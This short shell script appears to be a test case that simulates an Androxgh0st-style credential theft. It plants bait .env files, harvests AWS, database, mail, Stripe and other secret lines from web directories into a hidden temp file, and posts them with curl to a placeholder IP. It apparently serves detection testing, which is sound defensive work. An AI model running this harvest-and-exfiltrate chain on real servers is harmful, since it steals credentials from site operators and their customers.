#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/www/shop /srv/api /home/dev/site; for d in /var/www/shop /srv/api /home/dev/site; do printf 'APP_KEY=bait\nDB_PASSWORD=bait\nMAIL_PASSWORD=bait\nAWS_SECRET_ACCESS_KEY=bait\nSTRIPE_SECRET=sk_live_bait\n' >$d/.env; done
find /var/www /srv /home /opt /app /usr/share/nginx -name '.env*' -type f 2>/dev/null | while read -r f; do echo "== $f"; grep -E '^(AWS|DB|MAIL|STRIPE|TWILIO|SENDGRID|APP)_' "$f"; done >/tmp/.e
curl -s --data-binary @/tmp/.e http://203.0.113.10/androxgh0st >/dev/null
test "$(grep -c STRIPE /tmp/.e)" = 3
took_place
